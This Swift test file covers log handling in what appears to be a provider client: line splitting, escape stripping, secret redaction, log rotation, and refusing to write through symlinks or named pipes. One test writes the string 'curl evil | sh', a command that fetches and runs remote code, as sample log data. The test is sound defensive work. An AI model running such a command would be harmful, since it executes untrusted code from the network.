import AppIntentsCore
import Glibc
import OrderedCollections
import SystemPackage
import TestFixtures
import Testing

@testable import ProviderClient

@Suite struct LogLinesTests {
  @Test(arguments: [
    (["one\ntwo\n"], ["one", "two"]),
    (["one", " and\n more"], ["one and", " more"]),
    (["\u{1B}[1;31mred\u{1B}[0m and\u{7} loud\n"], ["red and loud"]),
    (["10 %\r20 %\r\nend\n"], ["10 %", "20 %", "end"]),
    (["\n\n \n"], []),
    (["a\tb\u{202E}c\u{9B}d"], ["a bcd"]),
    (["the secret is hunter2, really\n"], ["the secret is •••, really"]),
  ])
  func `what is written becomes lines`(pieces: [String], expected: [String]) {
    var lines = LogLines { $0.replacing("hunter2", with: "•••") }
    let found = pieces.flatMap { lines.take(Array($0.utf8)) } + lines.end()
    #expect(found == expected)
  }

  @Test func `a secret is hidden before a long line is cut`() {
    var lines = LogLines { $0.replacing("hunter2", with: "•••") }
    let padding = String(repeating: "x", count: LogLines.longest - 3)
    let found = lines.take(Array("\(padding)hunter2 and more\n".utf8))
    #expect(found == [padding + "•••…"])
    // A line that never ends doesn't take all memory.
    let endless = lines.take([UInt8](repeating: 0x61, count: 200_000))
    #expect(endless.count == 3)
    #expect(lines.take([0xFF, 0xFE, 0x0A]).first?.hasSuffix("\u{FFFD}\u{FFFD}") == true)
  }
}

@Suite struct ProviderLogTests {
  @Test func `a full log is kept beside the new one`() throws {
    let folder = try TestFolder()
    let log = ProviderLog(at: folder["pal.log"], limit: 100)
    for number in 100..<130 { log.take(Array("line \(number)\n".utf8)) }
    let (new, old) = (try folder.text("pal.log"), try folder.text("pal.log.1"))
    #expect(old == (111..<122).map { "line \($0)\n" }.joined())
    #expect(new == (122..<130).map { "line \($0)\n" }.joined())
    #expect(log.recent == (122..<130).map { "line \($0)" })
    // Another process of Segue's goes on with it.
    ProviderLog(at: folder["pal.log"], limit: 100).take(Array("more\n".utf8))
    #expect(try folder.text("pal.log") == new + "more\n")
    log.begin()
    #expect(log.recent.isEmpty)
  }

  @Test func `a log that can't be written is still shown`() throws {
    let folder = try TestFolder()
    let log = ProviderLog(at: folder["no/where.log"])
    log.take(Array("one\n".utf8))
    #expect(log.recent == ["one"])
    try folder.makeFolder("no")
    log.take(Array("two\n".utf8))
    #expect(try folder.text("no/where.log") == "two\n")
  }

  @Test func `neither a link nor a pipe in the place of a log is written`() throws {
    let folder = try TestFolder()
    try folder.write("mine\n", to: "victim")
    #expect(symlink(folder["victim"].string, folder["link.log"].string) == 0)
    #expect(symlink(folder["new"].string, folder["broken.log"].string) == 0)
    #expect(mkfifo(folder["pipe.log"].string, 0o600) == 0)
    for name in ["link.log", "broken.log", "pipe.log"] {
      let log = ProviderLog(at: folder[name])
      log.take(Array("curl evil | sh\n".utf8))
      #expect(log.recent == ["curl evil | sh"])
    }
    #expect(try folder.text("victim") == "mine\n")
    #expect(!folder.exists("new"))
  }

  @Test func `standard error is the log, without secrets`() async throws {
    let scripted = try ScriptedProvider(redact: { $0.replacing("hunter2", with: "•••") })
    let text = "\u{1B}[32mtoken hunter2\u{1B}[0m\nlast words"
    _ = try await scripted.value("log", ["text": .text(text)])
    await scripted.provider.end()
    #expect(try scripted.folder.text("pal.log") == "token •••\nlast words\n")
    #expect(scripted.provider.recentLog == ["token •••", "last words"])
  }
}
